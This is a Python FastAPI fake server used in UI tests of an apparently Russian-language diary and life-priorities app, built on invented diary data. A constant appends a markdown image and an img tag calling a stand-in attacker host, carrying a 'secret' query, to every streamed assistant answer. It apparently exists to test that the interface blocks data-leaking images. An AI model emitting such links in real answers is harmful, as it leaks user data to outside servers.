"""A small stand-in that speaks the contract over the invented life: answers outlive the page, imports take a while."""

import asyncio
import json
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from functools import cache
from typing import Annotated, Any

from fastapi import FastAPI, Header, Request, Response, UploadFile
from fastapi.responses import JSONResponse, StreamingResponse
from pydantic_settings import BaseSettings, SettingsConfigDict

from tests.ui.invented import DIARY, UNTIL, Json, about, evidence, ident, life, months_between

HOSTILE = "\n\n![](http://evil.invalid/leak.png?q=тайна) <img src=http://evil.invalid/x.png>"
ANSWER = (
    "Весной 2024 года на первом месте стояло **«Уйти из банка»** [1]. После увольнения в декабре его место "
    "заняла **«Открыть гончарную мастерскую»** [2]: сначала она была на паузе, потом вернулась [3]."
)
ENGLISH = "In the spring of 2024 **«Уйти из банка»** came first [1]; after December **«Открыть гончарную мастерскую»** took its place [2], first paused, then back [3]."
CITED = (DIARY[2], DIARY[5], DIARY[4])


class Pace(BaseSettings):
    model_config = SettingsConfigDict(env_prefix="FAKE_")

    token_delay: float = 0.02
    empty: bool = False


@dataclass
class Run:
    id: str
    session: str
    answer: str
    events: list[tuple[str, Json]] = field(default_factory=list)
    changed: asyncio.Condition = field(default_factory=asyncio.Condition)
    stopped: bool = False
    over: bool = False

    async def tell(self, event: str, data: Json) -> None:
        async with self.changed:
            self.events.append((event, data))
            self.over = event == "done"
            self.changed.notify_all()


@dataclass
class House:
    runs: dict[str, Run] = field(default_factory=dict)
    talks: dict[str, Json] = field(default_factory=dict)
    jobs: dict[str, int] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)
    positions: dict[str, Any] = field(default_factory=dict)
    tasks: set[asyncio.Task[None]] = field(default_factory=set)


app = FastAPI()
house = House()
PACE = Pace()


@cache
def history() -> Json:
    whole = life()
    return (
        {**whole, "nodes": [], "edges": [], "since": None, "until": None} if PACE.empty else whole
    )


def now() -> str:
    return datetime.now(UTC).isoformat()  # noqa: TID251 - a stand-in for a server


def problem(status: int, title: str) -> JSONResponse:
    body = {
        "type": "about:blank",
        "title": title,
        "status": status,
        "detail": title,
        "instance": "/",
    }
    return JSONResponse(body, status_code=status, media_type="application/problem+json")


@app.get("/api/health")
async def health() -> Json:
    engine = {"name": "embedded", "version": "1", "ok": True}
    return {
        "ok": True,
        "engine": engine,
        "queue": {"ok": True, "waiting": 0},
        "model": {"configured": False, "name": None},
        "version": "0",
    }


@app.get("/api/profile")
@app.patch("/api/profile")
async def profile() -> Json:
    return {
        "names": ["Вера"],
        "language": "ru",
        "timezone": "Europe/Moscow",
        "quiet_hours": None,
        "theme": "system",
        "proactivity": False,
        "views": [],
    }


@app.get("/api/map/revision")
async def revision() -> Json:
    return {"revision": history()["revision"]}


@app.get("/api/map/history")
async def all_days(
    limit: int = 1000,
    focus: str | None = None,
    if_none_match: Annotated[str | None, Header()] = None,
) -> Response:
    if if_none_match == '"r1"':
        return Response(status_code=304)
    whole = history()
    nodes = sorted(whole["nodes"], key=lambda one: -one["size"])
    if focus:
        parent = next(one for one in nodes if one["id"] == focus)
        fresh = [
            {
                **parent,
                "id": f"{focus}+{n}",
                "name": f"{parent['name']}: {n + 1}",
                "x": parent["x"] + dx,
                "y": parent["y"] + dy,
            }
            for n, (dx, dy) in enumerate([(90, 40), (-60, 90)])
        ]
        edges = [
            {
                **whole["edges"][0],
                "id": f"x{one['id']}",
                "source": one["id"],
                "target": focus,
                "intervals": one["intervals"],
            }
            for one in fresh
        ]
        body = {**whole, "nodes": [parent, *fresh], "edges": edges}
    else:
        kept = {one["id"] for one in nodes[:limit]}
        body = {
            **whole,
            "nodes": nodes[:limit],
            "edges": [e for e in whole["edges"] if {e["source"], e["target"]} <= kept],
        }
    return Response(json.dumps(body), media_type="application/json", headers={"ETag": '"r1"'})


@app.patch("/api/map/positions", status_code=204)
async def move(points: dict[str, Any]) -> None:
    house.positions.update(points)


def brief(id: str) -> Json:
    node = next(one for one in history()["nodes"] if one["id"] == id)
    return {
        key: node[key] for key in ("id", "type", "name", "aliases", "phase", "stance", "confidence")
    }


@app.get("/api/entities")
async def entities(q: str = "") -> Json:
    found = [brief(one["id"]) for one in history()["nodes"] if q.lower() in one["name"].lower()]
    return {"items": found[:20], "next": None}


@app.get("/api/entities/{id}", response_model=None)
async def entity(id: str) -> Json | JSONResponse:
    node = next((one for one in history()["nodes"] if one["id"] == id.split("+")[0]), None)
    if node is None:
        return problem(404, "Такого узла нет")
    told = about(node["name"])
    spans = [{"from": a, "to": b} for a, b in node["intervals"]]
    phases = (
        [
            {"phase": "active", **span, "evidence": [evidence(one) for one in told[:1]]}
            for span in spans
        ]
        if node["phase"]
        else []
    )
    if len(phases) == 2:
        phases.insert(
            1, {"phase": "paused", "from": spans[0]["to"], "to": spans[1]["from"], "evidence": []}
        )
    relations = [
        {"id": e["id"], "relation": e["type"], "direction": "out" if e["source"] == id else "in", "other": brief(e["target"] if e["source"] == id else e["source"]), "valid_from": a, "valid_to": b, "explicit": e["explicit"], "evidence": [evidence(one) for one in told[:1]]}
        for e in history()["edges"] if id in (e["source"], e["target"]) for a, b in e["intervals"]
    ]  # fmt: skip
    statements = [
        {
            **evidence(one),
            "kind": one.kind,
            "polarity": 1,
            "strength": 2,
            "emotion": one.emotion,
            "date": one.day.isoformat(),
        }
        for one in told
    ]
    summary = (
        f"«{node['name']}» — впервые названо в начале записей; сказано об этом {len(told)} раз."
        if told
        else ""
    )
    return {
        **brief(node["id"]),
        "summary": summary,
        "phases": phases,
        "intervals": spans,
        "statements": statements,
        "relations": relations,
        "priority_series": series(node),
    }


def series(node: Json) -> list[Json]:
    if node["type"] not in {"Goal", "Project", "Value"}:
        return []
    goals = [one for one in history()["nodes"] if one["type"] in {"Goal", "Project", "Value"}]
    points: list[Json] = []
    for day in months_between(datetime(2024, 5, 1, tzinfo=UTC), UNTIL):
        text = day.isoformat()
        level = {
            one["id"]: one["size"] + 0.3 * _fresh(one, text) for one in goals if _holds(one, text)
        }
        ranked = sorted(level, key=lambda id: -level[id])
        rank = ranked.index(node["id"]) + 1 if node["id"] in level else None
        points.append({"date": text, "level": level.get(node["id"], 0.0), "sd": 0.12, "rank": rank})
    return points


def _holds(node: Json, day: str) -> bool:
    return any(
        a[:10] <= day[:10] and (b is None or day[:10] < b[:10]) for a, b in node["intervals"]
    )


def _fresh(node: Json, day: str) -> float:
    begun = max(a for a, _ in node["intervals"] if a[:10] <= day[:10])
    return max(0.0, 1 - (datetime.fromisoformat(day) - datetime.fromisoformat(begun)).days / 240)


@app.patch("/api/facts/{id}")
@app.patch("/api/entities/{id}")
@app.post("/api/entities/{id}/undo")
async def corrected(id: str, request: Request) -> Json:
    house.asked.append(f"{request.method} {id} {(await request.body()).decode()}")
    return {}


@app.get("/api/priorities")
async def priorities(as_of: str | None = None) -> Json:
    return {
        "as_of": as_of or now(),
        "view": "now",
        "certainty": 0.8,
        "dormant": [],
        "obligations": [],
        "items": ranked(),
    }


def ranked() -> list[Json]:
    best = [
        one
        for one in sorted(history()["nodes"], key=lambda one: -one["size"])
        if one["type"] in {"Goal", "Value", "Project"}
    ][:8]
    return [
        {
            "entity": brief(one["id"]),
            "level": one["size"],
            "sd": 0.1,
            "p_top": 0.5,
            "share": 0.1,
            "rank": n,
            "rank_low": max(1, n - 1),
            "rank_high": n + 1,
            "evidence": [],
        }
        for n, one in enumerate(best, 1)
    ]


@app.get("/api/shifts")
async def shifts(request: Request, lang: str = "ru") -> Json:
    since, until = request.query_params["from"], request.query_params["to"]
    if PACE.empty:
        return {
            "from": f"{since}T00:00:00Z",
            "to": f"{until}T00:00:00Z",
            "rbo": 1,
            "tau": 1,
            "summary": "",
            "items": [],
            "priorities_from": [],
            "priorities_to": [],
        }
    rows = [
        ("Открыть гончарную мастерскую", "rose", 0.9, 0.96, 3, 5, True, 0.1),
        ("Уйти из банка", "done", -0.8, 0.93, 2, None, True, 0.1),
        ("Дописать сценарий", "dropped", -0.5, 0.84, 6, 7, False, 0.4),
        ("Ездить к маме чаще", "appeared", 0.4, 0.7, None, 8, True, 0.5),
    ]
    items = [
        {"entity": brief(ident(name)), "change": change, "delta": delta, "probability": p, "stable": stable, "date": f"{DIARY[after or before or 0].day:%Y-%m-%d}T00:00:00Z", "date_low": None, "date_high": None, "mood_part": mood, "evidence_before": [evidence(DIARY[before])] if before is not None else [], "evidence_after": [evidence(DIARY[after])] if after is not None else [], "reason": ""}
        for name, change, delta, p, before, after, stable, mood in rows
    ]  # fmt: skip
    summary = "На первое место вышла цель «Открыть гончарную мастерскую»; раньше там стояло «Уйти из банка».\nБольше не стоит в ряду «Дописать сценарий», появилось «Ездить к маме чаще»."
    if lang == "en":
        summary = "“Открыть гончарную мастерскую” moved to the first place, where “Уйти из банка” stood before.\n“Дописать сценарий” left the list; “Ездить к маме чаще” appeared."
    return {
        "from": f"{since}T00:00:00Z",
        "to": f"{until}T00:00:00Z",
        "rbo": 0.55,
        "tau": 0.3,
        "summary": summary,
        "items": items,
        "priorities_from": ranked(),
        "priorities_to": ranked(),
    }


@app.get("/api/documents")
async def documents() -> Json:
    return {"items": [], "next": None}


@app.get("/api/documents/{id}")
async def document(id: str) -> Json:
    one = DIARY[int(id[1:])]
    texts = [
        "Проснулась рано, за окном туман.",
        f"Долго думала. {one.text} Так и запишу.",
        "Вечером звонила Света <b>поздно</b>.",
    ]
    parts = [
        {
            "locator": f"line:{int(id[1:]) + 2 + n}",
            "role": "self",
            "date": one.day.isoformat(),
            "date_source": "name",
            "text": text,
        }
        for n, text in enumerate(texts)
    ]
    return {
        "id": id,
        "path": one.path,
        "project": "Дневник",
        "date": one.day.isoformat(),
        "date_source": "name",
        "conversations": 1,
        "messages": 3,
        "parts": parts,
    }


# -- talking ---------------------------------------------------------------------------------------


@app.get("/api/sessions")
async def sessions() -> Json:
    return {"items": [whole(id) for id in house.talks], "next": None}


def whole(id: str) -> Json:
    active = next(
        (run.id for run in house.runs.values() if run.session == id and not run.over), None
    )
    return {**house.talks[id], "active_run": active}


@app.get("/api/sessions/{id}", response_model=None)
async def session(id: str) -> Json | JSONResponse:
    return whole(id) if id in house.talks else problem(404, "Такого разговора нет")


@app.delete("/api/sessions/{id}", status_code=204)
async def drop(id: str) -> None:
    house.talks.pop(id, None)


@app.post("/api/runs", status_code=202)
async def ask(body: dict[str, Any]) -> Json:
    question = body["messages"][-1]["content"]
    id = body.get("session_id") or uuid.uuid4().hex
    talk = house.talks.setdefault(
        id,
        {
            "id": id,
            "title": question[:60],
            "mode": "auto",
            "kind": "talk",
            "phase": None,
            "created": now(),
            "updated": now(),
            "digest": None,
            "messages": [],
        },
    )
    talk["messages"].append(turn("user", question))
    answer = ENGLISH if body.get("lang") == "en" else ANSWER
    run = Run(uuid.uuid4().hex, id, answer + HOSTILE)
    house.runs[run.id] = run
    task = asyncio.get_running_loop().create_task(speak(run))
    house.tasks.add(task)
    task.add_done_callback(house.tasks.discard)
    return {"run_id": run.id, "session_id": id}


def turn(role: str, content: str, **more: Any) -> Json:
    return {
        "id": uuid.uuid4().hex,
        "role": role,
        "content": content,
        "date": now(),
        "strategy": None,
        "citations": [],
        "feedback": None,
        **more,
    }


async def speak(run: Run) -> None:
    cites = [evidence(one) for one in CITED]
    strategy: Json = {"name": "answer", "reason": "вопрос о переменах во времени", "scores": {}}
    await run.tell("strategy", strategy)
    said = ""
    for word in run.answer.split(" "):
        if run.stopped:
            break
        await asyncio.sleep(PACE.token_delay)
        said += word + " "
        await run.tell("token", {"text": word + " "})
    house.talks[run.session]["messages"].append(
        turn("assistant", said, strategy=strategy, citations=cites)
    )
    await run.tell("citations", {"items": cites})
    await run.tell(
        "done",
        {
            "session_id": run.session,
            "message": {"role": "assistant", "content": said},
            "citations": cites,
        },
    )


@app.get("/api/runs/{id}/events")
async def events(id: str, after: int = 0) -> StreamingResponse:
    async def stream() -> AsyncIterator[str]:
        run, n = house.runs[id], after
        while True:
            while n < len(run.events):
                event, data = run.events[n]
                n += 1
                yield f"id: {n}\nevent: {event}\ndata: {json.dumps(data, ensure_ascii=False)}\n\n"
                if event == "done":
                    return
            async with run.changed:
                if n >= len(run.events):
                    await run.changed.wait()

    return StreamingResponse(stream(), media_type="text/event-stream")


@app.delete("/api/runs/{id}", status_code=204)
async def stop(id: str) -> None:
    house.runs[id].stopped = True


# -- bringing in -----------------------------------------------------------------------------------


@app.post("/api/files/upload", response_model=None)
async def upload(request: Request) -> Json | JSONResponse:
    form = await request.form()
    files = [one for one in form.getlist("files") if not isinstance(one, str)]
    if any(
        one.filename == "bad.bin"
        for one in files
        if isinstance(one, UploadFile) or hasattr(one, "filename")
    ):
        return problem(415, "Здесь нет ничего, что можно прочитать.")
    if form.get("dry_run"):
        return {
            "upload_id": "u1", "files": 12, "formats": {"markdown": 9, "telegram": 2, "pdf": 1}, "from": "2021-03-01T00:00:00Z", "to": "2025-10-30T00:00:00Z",
            "conversations": 14, "messages": 1834, "chunks": 320, "languages": {"ru": 12, "en": 2, "other": 0}, "undated": ["заметка.txt"],
            "authors": [{"name": "Вера", "messages": 900, "me": True}, {"name": "Света", "messages": 870, "me": False}],
            "estimate": {"calls": 0, "tokens": 0, "cost_usd": 0, "cost_rub": 0, "minutes": 1.4}, "problems": [{"path": "скан.pdf", "reason": "В файле нет текста"}],
        }  # fmt: skip
    id = uuid.uuid4().hex
    house.jobs[id] = 0
    house.asked.append(
        f"upload {form.get('upload_id') or ','.join(str(one.filename) for one in files)}"
    )
    return JSONResponse({"job_id": id}, status_code=202)


def ingest(id: str) -> Json:
    step = house.jobs[id] = min(12, house.jobs[id] + 3)
    status = "done" if step == 12 else "running"
    stats = {
        "files_seen": 12,
        "files_read": 11,
        "files_failed": 1,
        "conversations": 14,
        "messages": step * 150,
        "statements": step * 9,
        "entities": step * 4,
    }
    return {
        "job_id": id,
        "status": status,
        "progress": {"stage": "observe", "done": step, "total": 12},
        "stats": stats,
        "problems": [{"path": "скан.pdf", "reason": "В файле нет текста"}],
    }


@app.get("/api/ingest/{id}")
async def job(id: str) -> Json:
    return ingest(id)


@app.delete("/api/ingest/{id}", status_code=204)
async def undo(id: str) -> None:
    house.jobs.pop(id, None)
    house.asked.append("undo")


@app.get("/api/jobs")
async def jobs() -> Json:
    items = [
        {
            "id": id,
            "kind": "import",
            "status": "done",
            "progress": {"stage": "done", "done": 1, "total": 1},
            "created": now(),
            "updated": now(),
            "problem": None,
        }
        for id in house.jobs
    ]
    return {"items": items, "next": None}
